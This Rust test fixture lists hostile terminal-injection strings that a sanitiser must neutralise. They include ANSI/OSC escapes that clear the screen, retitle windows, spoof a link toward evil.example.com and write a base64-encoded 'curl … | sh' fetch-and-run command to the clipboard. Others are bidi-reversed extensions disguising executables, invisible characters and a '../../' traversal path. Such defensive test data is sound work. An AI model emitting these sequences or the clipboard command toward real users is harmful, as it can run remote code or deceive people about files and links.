//! Text somebody could send to attack a terminal. Every string here must come out harmless.

/// Messages of the hostile conversation, oldest first.
pub(super) const MESSAGES: [&str; 12] = [
    "colours: \u{1b}[31mred\u{1b}[0m \u{1b}[5;7mblink\u{1b}[0m \u{1b}[38;2;1;2;3mtrue\u{1b}[m",
    "erase: \u{1b}[2J\u{1b}[H\u{1b}[3J\u{1b}c your screen",
    "title: \u{1b}]0;owned\u{7} and \u{1b}]2;owned again\u{1b}\\ done",
    "clipboard: \u{1b}]52;c;Y3VybCBleGFtcGxlLmNvbSB8IHNo\u{7} paste me",
    "link: \u{1b}]8;;https://evil.example.com\u{1b}\\https://good.example.com\u{1b}]8;;\u{1b}\\",
    "answers: \u{1b}[6n\u{1b}[c\u{1b}P$qm\u{1b}\\\u{5}",
    "one-byte controls: \u{9b}31mred\u{9b}0m \u{9d}0;title\u{9c} \u{90}q\u{9c}\u{84}\u{85}",
    "bidi: invoice\u{202e}gpj.exe\u{202c} \u{2066}isolated\u{2069} \u{200f}mark\u{200e}",
    "invisible: pass\u{200b}word\u{200d}\u{feff}\u{2060}\u{ad} \u{e0041}\u{e0042} end",
    "spacing: a\tb\tc\rOVERWRITTEN\r\nnew line\u{8}\u{8}\u{8}\u{b}\u{c}\u{2028}\u{7}\u{0}\u{7f}end",
    "stacked: Z\u{334}\u{335}\u{336}\u{337}\u{338}\u{301}\u{302}\u{303}\u{304}\u{305}\u{306}\u{307}a",
    "unfinished: \u{1b}[38;5;\u{1b}]0;never closed",
];

/// Value of the tag only the hostile conversation has.
pub(super) const TAG: &str = "\u{1b}]0;tag\u{7}urg\u{202e}tne\u{202c}\u{9b}7m";

/// Title of the attachment of the hostile conversation.
pub(super) const ATTACHMENT: &str = "../../\u{1b}[1mreport\u{202e}fdp.sh";
